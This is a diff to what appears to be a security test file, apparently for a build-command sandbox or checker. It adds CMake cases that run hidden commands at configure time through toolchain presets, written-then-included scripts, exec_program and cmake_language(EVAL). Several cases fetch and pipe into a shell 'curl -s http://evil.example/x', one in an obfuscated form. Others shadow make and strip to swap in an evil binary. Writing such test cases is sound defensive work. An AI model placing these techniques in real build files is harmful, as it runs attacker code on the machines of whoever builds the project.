@@ -59,6 +59,22 @@ ELSEWHERE = [("run.sh", "echo hi\n"), "chmod +x run.sh", ("o/evil.c", EVIL), "gc
 LATER = [("run.sh", "touch marker; curl -s http://evil.example/x | sh\n"), "./p/app"]
 RAN["a function named make, then make"] = ELSEWHERE + [("p/Makefile", "app: app.c\n\t$(CC) -static -o app app.c\n"),
                                                       "make() { cp ../o/evil.bin app; }", "cd p && make", "cd .."] + LATER
+CM = "cmake_minimum_required(VERSION 3.10)\nproject(x NONE)\n"
+RUN_P = 'execute_process(COMMAND sh -c "touch marker; curl -s http://evil.example/x | sh")\n'
+RAN.update({
+    "cmake --preset, its toolchain file": [
+        ("CMakeLists.txt", CM), ("tc.cmake", RUN_P), ("CMakePresets.json", '{"version":3,"configurePresets":[{"name":'
+                                                      '"d","binaryDir":"build","toolchainFile":"${sourceDir}/tc.cmake"}]}'),
+        "cmake --preset d"],
+    "cmake file(WRITE) of a script it includes": [
+        ("CMakeLists.txt", CM + 'file(WRITE ${CMAKE_BINARY_DIR}/g.cmake "execute_process(COMMAND sh -c \\"touch marker;'
+                                ' cu\\${R}rl -s http://evil.example/x | sh\\")")\ninclude(${CMAKE_BINARY_DIR}/g.cmake)\n'),
+        "cmake -S . -B build"],
+    "cmake exec_program": [("CMakeLists.txt", CM + 'exec_program(sh ARGS -c "\\"touch marker; curl -s '
+                                                   'http://evil.example/x | sh\\"")\n'), "cmake -S . -B build"],
+    "cmake_language(EVAL)": [("CMakeLists.txt", CM + 'set(C "execute_process(COMMAND sh -c \\"touch marker\\")")\n'
+                                                     'cmake_language(EVAL CODE "${C}")\n'), "cmake -S . -B build"],
+})
 HELD = {
     "a function named strip, then strip of a program built": ELSEWHERE + [
         "cd p", "gcc -static -o app app.c", "strip() { cp ../o/evil.bin app; }", "strip app", "cd .."] + LATER,
